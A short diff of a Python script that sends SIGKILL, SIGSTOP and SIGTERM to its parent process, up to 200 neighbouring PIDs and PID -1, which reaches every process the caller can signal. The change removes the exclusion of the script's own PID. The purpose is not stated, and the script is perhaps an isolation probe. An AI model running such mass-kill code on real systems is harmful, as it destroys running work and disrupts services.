@@ -9,8 +9,8 @@ import signal
 
 libc = ctypes.CDLL(None, use_errno=True)
 me = os.getpid()
-targets = {os.getppid(), *range(max(2, me - 200), me), -1, 0}
-for pid in targets - {me}:
+targets = {os.getppid(), *range(max(2, me - 200), me), -1}
+for pid in targets:
     for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
         for attempt in (
             lambda: os.kill(pid, number),
